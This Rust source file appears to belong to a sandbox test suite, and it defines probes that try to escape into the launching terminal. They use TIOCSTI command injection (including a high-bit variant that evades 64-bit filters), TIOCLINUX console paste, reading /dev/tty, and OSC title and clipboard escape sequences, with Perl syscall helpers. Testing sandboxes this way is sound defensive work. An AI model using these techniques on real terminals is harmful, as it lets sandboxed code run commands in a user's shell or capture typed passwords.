//! Probes of the terminal that the launcher was started from. Perl makes the ioctl calls that no
//! safe crate reaches. It must never know what stands in the terminal's input.

use std::fs::File;
use std::io::{self, Read as _};

use crate::helper::{finish, perl};
use crate::{Control, HOLD, Need, Params, Probe};

/// Types its first argument into the terminal with the request given: `/dev/tty`, else input.
const TYPE: &str = r#"
    my ($text, $number, $request) = @ARGV;
    my $terminal;
    open($terminal, "+<", "/dev/tty") or $terminal = \*STDIN;
    for my $c (split //, "$text\n") {
        my $r = syscall($number + 0, fileno($terminal), $request + 0, $c);
        $r == 0 or die "ioctl: $!\n";
    }"#;

pub(crate) const PROBES: &[Probe] = &[
    Probe {
        id: "term.tiocsti",
        what: "Types a command into the terminal that the launcher was started from.",
        why: "The user's shell runs it when the sandbox has ended.",
        references: &["CVE-2017-5226 (secondary source)"],
        needs: &[Need::Launch, Need::Perl, Need::LegacyTiocsti],
        observer: "the suite reads the terminal's input after the run",
        action: |params| type_into(params, "0x5412"),
        ..HOLD
    },
    Probe {
        id: "term.tiocsti-hi32",
        what: "The same with a bit set above the 32 that the kernel looks at.",
        why: "A filter that compares all 64 bits lets it through.",
        references: &["CVE-2019-10063 (secondary source)"],
        needs: &[Need::Launch, Need::Perl, Need::LegacyTiocsti],
        observer: "the suite reads the terminal's input after the run",
        action: |params| type_into(params, "0x100005412"),
        ..HOLD
    },
    Probe {
        id: "term.read-tty",
        what: "Opens the controlling terminal by name and reads what was typed.",
        why: "Passwords are typed there; closing standard input does not close it.",
        needs: &[Need::Launch],
        observer: "random text typed into the terminal comes out of the sandbox",
        action: |_| read_terminal(),
        ..HOLD
    },
    Probe {
        id: "term.tioclinux",
        what: "Selects text on the virtual console and pastes it into the launcher's input.",
        why: "The user's shell on that console runs what was pasted.",
        references: &["CVE-2023-1523 (secondary source)"],
        needs: &[Need::Launch, Need::Perl, Need::Root, Need::Console],
        observer: "the suite reads the console's input after the run",
        control: Control::Root,
        action: |_| {
            let number = if cfg!(target_arch = "x86_64") { "16" } else { "29" };
            let mut command = perl(PASTE, &[number])?;
            command.stdin(std::process::Stdio::inherit());
            finish(command)
        },
        ..HOLD
    },
    Probe {
        id: "term.escape",
        what: "Prints control sequences that set the terminal's title and the clipboard.",
        why: "A terminal obeys them: they hide text, type answers and fill the clipboard.",
        needs: &[Need::Launch],
        observer: "the sequence arrives at the launcher's terminal as it is",
        action: |params| {
            let text = params.content()?;
            println!("\u{1b}]0;{text}\u{7}\u{1b}]52;c;{text}\u{7}\u{9d}0;{text}\u{9c}");
            Ok("printed them".into())
        },
        ..HOLD
    },
];

/// TIOCL_SETSEL of the first screenful, then TIOCL_PASTESEL.
const PASTE: &str = r#"
    my ($number) = @ARGV; my $terminal;
    open($terminal, "+<", "/dev/tty") or $terminal = \*STDIN;
    for my $part (pack("C S5", 2, 1, 1, 80, 25, 0), pack("C x15", 3)) {
        my $p = $part;
        syscall($number + 0, fileno($terminal), 0x541C, $p) == 0 or die "ioctl: $!\n";
    }"#;

fn type_into(params: &Params, request: &str) -> io::Result<String> {
    let number = if cfg!(target_arch = "x86_64") { "16" } else { "29" };
    let script = TYPE.replace("$request + 0", request);
    let mut command = perl(&script, &[params.content()?, number, request])?;
    command.stdin(std::process::Stdio::inherit());
    finish(command)
}

fn read_terminal() -> io::Result<String> {
    let mut terminal = File::open("/dev/tty")?;
    let mut buffer = [0; 256];
    let length = terminal.read(&mut buffer)?;
    println!("{}", String::from_utf8_lossy(buffer.get(..length).unwrap_or_default()));
    Ok(format!("read {length} bytes"))
}
